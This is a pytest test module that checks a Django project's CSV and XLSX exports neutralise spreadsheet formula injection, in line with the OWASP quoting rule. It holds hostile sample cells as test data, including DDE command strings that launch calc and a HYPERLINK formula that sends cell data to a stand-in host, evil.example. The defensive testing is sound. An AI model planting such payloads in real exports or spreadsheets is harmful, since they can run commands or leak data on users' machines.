"""Every CSV and XLSX CWTT writes opens safely in a spreadsheet (issue #10, hole 7).

A wave, district or school named like a formula, or a hostile answer, must reach the file as
text: a CSV cell starting with = + - @, a tab or a carriage return gets a leading quote (OWASP),
an XLSX cell keeps its text but is stored as text with Excel's quote-prefix mark. Numbers,
negative ones included, are left alone.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.core.management import call_command

from cwtt.assessments.actions import assessment_save
from cwtt.assessments.models import Assessment, Wave
from cwtt.instruments.measures.csv_tool import score_csv
from cwtt.tabular import csv_writer, needs_neutralising, safe_cell

from ..conftest import FIXTURES  # noqa: TID252 - shared test constant

HOSTILE = "@SUM(1+1)*cmd|' /C calc'!A0"
ATTACKS = [
    HOSTILE,
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+27 82 555 0101",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells_of(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def assert_no_cell_can_run(cells) -> None:
    for cell in cells:
        assert not needs_neutralising(cell), f"{cell!r} would run as a formula"


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_cell_that_could_run_as_a_formula_gets_a_leading_quote(attack):
    assert safe_cell(attack) == "'" + attack
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["Sunrise", attack])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["Sunrise", "'" + attack]


@pytest.mark.parametrize("number", [-1.2, -3, 0, 2.5, "-1.20", "+3", "-0.5e-3", ".5", None])
def test_numbers_written_as_numbers_or_plain_numeric_text_are_left_alone(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["Sunrise Primary", "Wave 1 (2026)", "", "a=b", "1+1", "x-1"])
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text


# --- cwtt export risk-profiles and research -----------------------------------------------


@pytest.fixture
def hostile_wave(db, mini_version, child, other_child, district):
    """A wave, a district and a school named like formulas; both children assessed in it."""
    wave = Wave.objects.create(
        name=HOSTILE,
        starts_on=dt.date(2026, 2, 1),
        ends_on=dt.date(2026, 11, 30),
        instrument_version=mini_version,
    )
    wave.schools.set([child.school, other_child.school])
    district["district"].name = "=cmd|' /C calc'!A0"
    district["district"].save()
    child.school.emis_number = "-1+cmd|'!A0"  # never valid; written by hand to attack
    child.school.save()
    for someone in (child, other_child):
        assessment_save(
            child=someone,
            wave=wave,
            respondent="caregiver",
            answers={"cg_meals": 1, "cg_hungry": "yes", "cg_hit": "no", "cg_dep9": "0"},
            assessed_on=dt.date(2026, 3, 2),
        )
        assessment_save(
            child=someone,
            wave=wave,
            respondent="nurse",
            answers={"ns_height": 118.5, "ns_weight": 21.3, "ns_abuse": "no"},
            assessed_on=dt.date(2026, 3, 2),
        )
    # A hostile answer stored by an older client: the export must not trust stored answers.
    stored = Assessment.objects.get(child=child, respondent="caregiver")
    stored.answers = stored.answers | {"cg_hungry": "=2+5+cmd|' /C calc'!A0"}
    stored.save(update_fields=["answers"])
    return wave


def test_the_risk_profiles_export_quotes_a_hostile_wave_and_school(tmp_path, hostile_wave):
    output = tmp_path / "risk.csv"
    call_command("export", "risk-profiles", output=str(output), stdout=io.StringIO())
    rows = list(csv.DictReader(output.open(encoding="utf-8", newline="")))
    assert {row["wave"] for row in rows} == {"'" + HOSTILE}
    assert "'-1+cmd|'!A0" in {row["school"] for row in rows}
    assert_no_cell_can_run(cells_of(output))


def test_the_research_export_quotes_a_hostile_wave_district_and_answer(tmp_path, hostile_wave):
    output = tmp_path / "research.csv"
    call_command("export", "research", output=str(output), stdout=io.StringIO())
    rows = list(csv.DictReader(output.open(encoding="utf-8", newline="")))
    assert len(rows) == 2
    assert {row["wave"] for row in rows} == {"'" + HOSTILE}
    assert {row["district"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert "'=2+5+cmd|' /C calc'!A0" in {row["caregiver.cg_hungry"] for row in rows}
    assert {row["nurse.ns_height"] for row in rows} == {"118.5"}
    assert_no_cell_can_run(cells_of(output))


# --- cwtt measure -------------------------------------------------------------------------


def test_measure_output_quotes_hostile_input_cells_and_keeps_negative_z_scores():
    source = io.StringIO(
        f'id,sex,age_months,height_cm,weight_kg\n"{HOSTILE}",F,60.32,113.8,18.7\n=1+1,M,60,100,14\n'
    )
    output = io.StringIO()
    score_csv("growth", source, output)
    rows = list(csv.DictReader(io.StringIO(output.getvalue())))
    assert [row["id"] for row in rows] == ["'" + HOSTILE, "'=1+1"]
    assert rows[0]["baz"] == "-0.58"  # a negative z-score stays a number
    assert float(rows[1]["haz"]) < 0
    assert_no_cell_can_run(c for row in csv.reader(io.StringIO(output.getvalue())) for c in row)


def test_the_measure_command_quotes_hostile_cells_in_its_output_file(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(f"id,q1,q2,q3,q4,q5,q6,q7,q8,q9\n{HOSTILE},0,1,0,0,0,0,0,0,1\n")
    target = tmp_path / "out.csv"
    call_command("measure", "phq9", input=str(source), output=str(target), stdout=io.StringIO())
    assert cells_of(target)[len("id q1 q2 q3 q4 q5 q6 q7 q8 q9".split()) + 4] == "'" + HOSTILE
    assert_no_cell_can_run(cells_of(target))


# --- cwtt instrument export (XLSX) --------------------------------------------------------


def test_the_instrument_export_stores_formula_like_text_as_text_unchanged(tmp_path):
    source_text = (FIXTURES / "mini.md").read_text(encoding="utf-8")
    hostile_label = '=HYPERLINK("http://evil.example","Meals")'
    original = next(line for line in source_text.splitlines() if "cg_meals" in line)
    label = original.split("|")[4].strip()
    source = tmp_path / "mini.md"
    source.write_text(source_text.replace(label, hostile_label, 1), encoding="utf-8")
    output = tmp_path / "mini.xlsx"
    call_command("instrument", "export", str(source), output=str(output), stdout=io.StringIO())

    workbook = openpyxl.load_workbook(output)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    hostile = [cell for cell in cells if cell.value == hostile_label]
    assert len(hostile) == 1  # the text itself is kept: it is the instrument
    assert hostile[0].data_type == "s" and hostile[0].quotePrefix
    assert not [cell for cell in cells if cell.data_type == "f"]  # no formula anywhere
